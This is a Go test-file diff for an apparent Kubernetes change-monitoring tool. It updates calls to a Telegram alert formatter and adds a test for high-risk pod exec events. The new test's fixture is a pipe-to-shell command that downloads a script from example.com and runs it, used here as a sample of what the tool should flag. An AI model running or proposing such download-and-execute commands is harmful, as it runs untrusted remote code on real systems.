@@ -178,7 +178,7 @@ func TestFormatTelegramMessage(t *testing.T) {
 				},
 			}
 
-			message := formatTelegramMessage(event)
+			message := formatTelegramMessage(nil, nil, event)
 			if message == "" {
 				t.Error("formatTelegramMessage() should not return empty string")
 			}
@@ -201,7 +201,7 @@ func TestFormatTelegramMessage_WithServiceAccount(t *testing.T) {
 		},
 	}
 
-	message := formatTelegramMessage(event)
+	message := formatTelegramMessage(nil, nil, event)
 	if !strings.Contains(message, "Service Account") {
 		t.Error("formatTelegramMessage() should include Service Account when present")
 	}
@@ -216,8 +216,31 @@ func TestFormatTelegramMessage_WithDiff(t *testing.T) {
 		},
 	}
 
-	message := formatTelegramMessage(event)
+	message := formatTelegramMessage(nil, nil, event)
 	if !strings.Contains(message, "2 patch operation") {
 		t.Error("formatTelegramMessage() should include diff count")
 	}
 }
+
+func TestFormatTelegramMessage_WithExecRisk(t *testing.T) {
+	event := &model.ChangeEvent{
+		Operation:    "EXEC",
+		ResourceKind: "Pod",
+		Name:         "api-0",
+		Timestamp:    time.Now(),
+		ExecMetadata: &model.ExecMetadata{
+			Command:      []string{"sh", "-c", "curl https://example.com/x.sh | sh"},
+			RiskScore:    100,
+			RiskSeverity: "high",
+			RiskReasons:  []string{"pipe-to-shell", "download"},
+		},
+	}
+
+	msg := formatTelegramMessage(nil, nil, event)
+	if !strings.Contains(msg, "<code>sh -c curl https://example.com/x.sh | sh</code>") {
+		t.Errorf("Message should contain the command, got %q", msg)
+	}
+	if !strings.Contains(msg, "<b>Risk:</b> high (100): pipe-to-shell, download") {
+		t.Errorf("Message should contain the risk, got %q", msg)
+	}
+}